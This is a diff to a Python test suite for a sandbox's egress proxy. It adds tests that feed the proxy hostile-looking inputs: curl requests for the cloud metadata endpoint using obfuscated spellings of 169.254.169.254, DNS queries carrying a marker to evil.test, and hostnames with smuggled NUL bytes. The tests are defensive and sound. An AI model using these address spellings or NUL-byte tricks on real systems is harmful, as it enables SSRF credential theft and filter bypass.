@@ -249,13 +249,16 @@ for address in ("93.184.216.34", "8.8.8.8", "224.0.0.251"):
 echo done
 """, egress.allowed(https))
     assert done.stdout.endswith("done\n"), done
-    seen = capture.has(marker.encode())
-    # Control: the same from outside is seen.
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.sendto(f"control-{marker}".encode(), ("127.0.0.1", 9))
-    agent.checks.wait_until(lambda: capture.has(f"control-{marker}".encode()))
+    assert_seen_from_outside(place, capture)
     capture.close()
-    assert not seen
+    assert not capture.has(marker.encode())
+
+
+def assert_seen_from_outside(place, capture):
+    """The control: the same from outside the sandbox is captured, so what came before it was, too."""
+    marker = os.urandom(12).hex()
+    place.host(["dig", "+tries=1", "+time=1", "-p", "9", "@127.0.0.1", f"{marker}.evil.test"])
+    agent.checks.wait_until(lambda: capture.has(marker.encode()))
 
 
 def test_a_refused_request_opens_no_connection_and_asks_for_no_name(place, https):
@@ -265,8 +268,9 @@ def test_a_refused_request_opens_no_connection_and_asks_for_no_name(place, https
     with agent.run(place, *egress.allowed(https)) as run:
         reply = egress.ask(run, egress.request(host=f"{marker}.evil.test"), f"{marker}.evil.test")
         egress.assert_refused(reply, 403, "host_not_allowed")
-    assert not capture.has(marker.encode())
+    assert_seen_from_outside(place, capture)
     capture.close()
+    assert not capture.has(marker.encode())
 
 
 # ---- who is meant ----
@@ -587,7 +591,7 @@ class Names:
         name, kind = ".".join(labels).lower(), struct.unpack(">H", query[at + 1:at + 3])[0]
         self.asked.append((name, kind))
         found = self.answers.get(name, [])
-        found = found.pop(0) if found and isinstance(found[0], list) else found
+        found = found(kind) if callable(found) else found
         packed = [(1, socket.inet_aton(a)) if ":" not in a else (28, socket.inet_pton(socket.AF_INET6, a))
                   for a in found]
         records = b"".join(b"\xc0\x0c" + struct.pack(">HHIH", k, 1, 0, len(data)) + data
@@ -674,6 +678,62 @@ def test_the_metadata_address_in_every_spelling(place, spelling, rule):
             assert reply.status in (400, 403, 421, 502), reply.head
             if reply.status == 502:
                 assert reply.code() == "upstream_unresolved", reply.body
+
+
+# As the C library and curl read them, before anything is connected to.
+AS_ADDRESS = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.254.43518",
+              "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]"]
+
+
+@pytest.mark.parametrize("spelling", AS_ADDRESS)
+def test_the_metadata_address_is_connected_to(place, origin, spelling):
+    """Whatever it is called, it is one address, which a rule alone does not open."""
+    line = f"curl -sS -g -H 'Host: 169.254.169.254' 'http://{spelling}/latest/meta-data/'"
+    for rules in ((), ("--allow-net", "169.254.169.254")):
+        done = egress.bash(place, line, ("--allow-net", "api.test", *rules))
+        assert ("address_not_allowed" if rules else "host_not_allowed") in done.stdout, done
+    assert_untouched(origin)
+    # Control: where the operator has mapped it, every spelling gets there.
+    done = egress.bash(place, line, ("--allow-net", "169.254.169.254", *egress.mapped(origin, "169.254.169.254", 80)))
+    assert done.stdout == '{"ok":true}' and origin.requests[0].target == "/latest/meta-data/", done
+
+
+@pytest.mark.parametrize("name", [b"api.test\0", b"api.test\0.evil.test", b"evil.test\0.api.test", b"\0api.test"])
+def test_a_nul_in_a_name_of_socks_and_of_tls(place, https, name):
+    with agent.run(place, *egress.allowed(https)) as run:
+        wire = run.connect("127.0.0.1", egress.PROXY)
+        wire.send(b"\x05\x01\x00")
+        assert wire.exactly(2) == b"\x05\x00"
+        wire.send(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb")
+        assert wire.exactly(10)[1] != 0
+        for connected in ("api.test", "93.184.216.34"):
+            wire = run.connect(connected, 443)
+            wire.send(egress.hello(name))
+            with pytest.raises(ConnectionError):
+                assert wire.rest()[:1] == b"\x15"  # or an alert
+                raise ConnectionError
+        # Control: without it, a handshake begins and the proxy connects.
+        wire = run.connect("api.test", 443)
+        wire.send(egress.hello(b"api.test"))
+        assert wire.exactly(1) == b"\x15"  # this hello offers too little for more than an alert
+        open_way(run, "socks", "api.test")
+        assert egress.ask(run).status == 200
+    assert len(https.requests) == 1
+
+
+@pytest.mark.parametrize("label", [b"api.test\0x", b"api\0", b"\0"])
+def test_a_nul_in_a_name_that_is_asked_for(place, https, label):
+    query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"%s\x04test\x00\x00\x01\x00\x01"
+    with agent.run(place, *egress.allowed(https)) as run:
+        replies = [bytes(run.python(f"""
+import socket
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sock.settimeout(5)
+sock.sendto({query % (bytes([len(name)]) + name)!r}, ("198.18.0.1", 53))
+result = list(sock.recv(600))
+""")) for name in (label, b"api")]
+    # NXDOMAIN without an answer; the control has one.
+    assert [(reply[3] & 15, reply[7]) for reply in replies] == [(3, 0), (0, 1)]
 
 
 @pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "[::]", "[::ffff:127.0.0.1]", "2130706433",
